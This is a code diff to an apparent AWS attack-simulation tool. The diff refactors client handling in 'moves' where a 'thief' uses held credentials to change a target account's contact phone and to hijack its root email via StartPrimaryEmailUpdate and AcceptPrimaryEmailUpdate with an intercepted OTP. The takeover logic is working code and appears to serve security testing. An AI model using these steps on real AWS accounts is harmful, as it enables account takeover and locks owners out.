@@ -1,6 +1,5 @@
 import {
   AcceptPrimaryEmailUpdateCommand,
-  AccountClient,
   PutContactInformationCommand,
   StartPrimaryEmailUpdateCommand,
 } from "@aws-sdk/client-account";
@@ -20,12 +19,11 @@ const changePhone: Move = {
   play: async (thief) => {
     if (thief.numbers.includes(ownPhone)) return false;
     for (const { arn, account, keys } of thief.held) {
-      const client = new AccountClient(thief.clientFor(keys));
+      const client = thief.clientsFor(keys).account;
       const target = account === thief.target ? {} : { AccountId: thief.target };
       const done = await thief.call("change the phone", `account:PutContactInformation as ${arn}`, () =>
         client.send(new PutContactInformationCommand({ ...target, ContactInformation: record })),
       );
-      client.destroy();
       if (done === null) continue;
       thief.numbers.push(ownPhone);
       return thief.note(`changed the phone as ${arn}`);
@@ -52,11 +50,10 @@ async function moveTo(thief: Thief, PrimaryEmail: string): Promise<boolean> {
   const outsiders = thief.held.filter(({ account }) => account !== thief.target);
   let isAsked = false;
   for (const { arn, keys } of outsiders) {
-    const client = new AccountClient(thief.clientFor(keys));
+    const client = thief.clientsFor(keys).account;
     const started = await thief.call(move, `account:StartPrimaryEmailUpdate as ${arn}`, () =>
       client.send(new StartPrimaryEmailUpdateCommand({ AccountId, PrimaryEmail })),
     );
-    client.destroy();
     isAsked ||= started !== null;
   }
   if (!isAsked) return false;
@@ -64,11 +61,10 @@ async function moveTo(thief: Thief, PrimaryEmail: string): Promise<boolean> {
   const Otp = inbox?.messages.findLast(({ otp }) => otp !== undefined)?.otp;
   if (Otp === undefined) return thief.refuse(move, "mailbox", "no code arrived");
   for (const { arn, keys } of outsiders) {
-    const client = new AccountClient(thief.clientFor(keys));
+    const client = thief.clientsFor(keys).account;
     const accepted = await thief.call(move, `account:AcceptPrimaryEmailUpdate as ${arn}`, () =>
       client.send(new AcceptPrimaryEmailUpdateCommand({ AccountId, PrimaryEmail, Otp })),
     );
-    client.destroy();
     if (accepted !== null) return true;
   }
   return false;
